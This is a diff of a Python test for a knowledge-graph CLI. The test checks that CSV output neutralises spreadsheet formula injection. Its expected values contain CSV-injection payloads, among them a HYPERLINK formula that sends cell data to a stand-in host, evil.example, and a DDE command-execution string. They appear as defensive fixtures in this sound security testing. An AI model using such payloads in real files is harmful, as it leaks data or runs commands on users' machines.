@@ -16,15 +16,20 @@ SELECT = "SELECT ?p ?o WHERE { <https://w3id.org/kg-diplomacy/id/article/a1> ?p 
 
 
 def _query_csv(*extra):
-    run = subprocess.run([sys.executable, "-m", "kg.cli", "query", str(HOSTILE), "-q", SELECT, "--format", "csv",
-                          *extra], capture_output=True, text=True, cwd=ROOT, timeout=120)
+    run = subprocess.run(
+        [sys.executable, "-m", "kg.cli", "query", str(HOSTILE), "-q", SELECT, "--format", "csv", *extra],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        timeout=120,
+    )
     assert run.returncode == 0, run.stderr
     return {row["p"].rsplit("/", 1)[-1]: row["o"] for row in csv.DictReader(io.StringIO(run.stdout))}
 
 
 def test_csv_cells_that_start_a_formula_are_neutralised():
     cells = _query_csv()
-    assert cells["name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    assert cells["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
     assert cells["publisher"] == "'+cmd|' /C calc'!A0"
     assert cells["alternateName"] == "'-2+3"
     assert cells["description"] == "'@SUM(1,2)"
